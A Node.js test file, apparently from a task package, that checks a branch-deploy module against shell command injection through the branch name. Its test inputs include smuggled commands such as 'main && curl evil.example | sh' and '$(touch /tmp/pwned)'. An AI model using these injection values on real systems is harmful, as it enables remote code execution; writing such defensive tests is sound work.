'use strict';
const { test, beforeEach } = require('node:test');
const assert = require('node:assert');
const path = require('node:path');
const { installFakeChildProcess } = require('../testkit');

const fake = installFakeChildProcess(() => ({ stdout: 'abc\n' }));
const mod = require(path.resolve(__dirname, process.env.CASE_MODULE || 'app.js'));

beforeEach(() => fake.reset());

for (const branch of ['main; touch /tmp/pwned', 'main && curl evil.example | sh', 'main$(touch /tmp/pwned)', 'x|touch /tmp/pwned']) {
  test(`the branch name cannot add a shell command: ${branch}`, async () => {
    try { await new mod.BranchDeployer('/srv/preview').deploy(branch); } catch { /* refusing is fine */ }
    for (const cmd of fake.shellCommands()) {
      assert.ok(!/touch|curl/.test(cmd), `the shell was given: ${cmd}`);
    }
  });
}
